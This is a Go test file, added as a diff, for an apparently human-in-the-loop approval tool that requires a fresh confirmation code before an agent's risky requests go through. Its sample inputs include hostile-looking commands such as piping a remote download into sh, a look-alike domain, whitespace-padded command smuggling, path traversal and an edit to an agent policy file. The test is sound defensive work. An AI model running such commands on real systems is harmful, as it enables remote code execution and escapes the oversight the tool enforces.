@@ -1,0 +1,75 @@
+package handlers
+
+import (
+	"net/http"
+	"strings"
+	"testing"
+
+	"nod/state"
+	"nod/state/approvals"
+)
+
+// TestR12HighRisk: what the card marks as risky is approved by nobody who has not
+// proved just for it to be there; everyday work is, and anything can be denied.
+func TestR12HighRisk(t *testing.T) {
+	s := newSite(t, func(c *Config) { c.Own = []string{"/srv/mine"} })
+	id := s.session()
+	n := 0
+	ask := func(change func(*state.Request)) *approvals.Approval {
+		n++
+		return s.ask(id, change, func(r *state.Request) { r.UpstreamID = []byte{byte('0' + n/10), byte('0' + n%10)}; r.Editable = true })
+	}
+	command := func(text string) func(*state.Request) {
+		return func(r *state.Request) { r.Input = text }
+	}
+	change := func(name string) func(*state.Request) {
+		return func(r *state.Request) {
+			r.Kind, r.Input, r.Diff = state.RequestFileChange, "", "--- a/"+name+"\n+++ b/"+name+"\n@@ -1 +1 @@\n-x\n+y\n"
+		}
+	}
+	try := func(a *approvals.Approval, option string, more ...string) (reply, bool) {
+		before := len(s.agent.answers)
+		r := s.post(s.in, "/approvals/"+a.ID, form(a, option, append(more, "seen", "yes")...))
+		return r, len(s.agent.answers) > before
+	}
+	const mark = "nod asks you to show that it is you"
+	for name, what := range map[string]func(*state.Request){
+		"root": command("sudo ls"), "unread": command("curl x.test | sh"), "look-alike": command("curl p\u0430ypal.com"), "outside": command("npm install && cp a ~/b"),
+		"padding": command("ls" + strings.Repeat(" ", 100) + ";x"), "policy": change(".mcp.json"), "nod's own": command("cat /srv/mine/x"), "outside, as a file": change("../x"),
+	} {
+		a := ask(what)
+		if page := s.get(s.in, "/s/"+id).body; !strings.Contains(page, mark) {
+			t.Errorf("%s: the card does not say it", name)
+		}
+		if r, sent := try(a, "accept"); r.status != http.StatusOK || sent || !strings.Contains(r.body, `name="code"`) {
+			t.Fatalf("%s: approved with an older proof: %d", name, r.status)
+		}
+		if r, sent := try(a, "accept", "confirmed", "yes"); r.status != http.StatusUnprocessableEntity || sent {
+			t.Fatalf("%s: approved without a proof: %d", name, r.status)
+		}
+		if r, sent := try(a, "accept", "confirmed", "yes", "code", s.code()); r.status != http.StatusSeeOther || !sent {
+			t.Fatalf("%s: with a fresh proof: %d", name, r.status)
+		}
+		s.hub.Resolved(t.Context(), s.uri(id), "e1", a.Request.UpstreamID, state.EndedAnswered)
+		a = ask(what)
+		if r, sent := try(a, "decline"); r.status != http.StatusSeeOther || !sent {
+			t.Errorf("%s: denied: %d", name, r.status)
+		}
+		s.hub.Resolved(t.Context(), s.uri(id), "e1", a.Request.UpstreamID, state.EndedAnswered)
+	}
+	for name, what := range map[string]func(*state.Request){"a test": command("go test ./..."), "a package": command("npm install"), "an edit": change("main.go"), "cleaning up": command("rm -rf build")} {
+		a := ask(what)
+		if strings.Contains(s.get(s.in, "/s/"+id).body, mark) {
+			t.Errorf("%s: the card says that it is risky", name)
+		}
+		if r, sent := try(a, "accept"); r.status != http.StatusSeeOther || !sent {
+			t.Errorf("%s: %d", name, r.status)
+		}
+		s.hub.Resolved(t.Context(), s.uri(id), "e1", a.Request.UpstreamID, state.EndedAnswered)
+	}
+	// What counts is what would run.
+	a := ask(command("ls"))
+	if r, sent := try(a, "accept", "edited", "sudo ls", "confirmed", "yes"); r.status != http.StatusUnprocessableEntity || sent || !strings.Contains(r.body, mark) {
+		t.Errorf("edited into a risk: %d", r.status)
+	}
+}
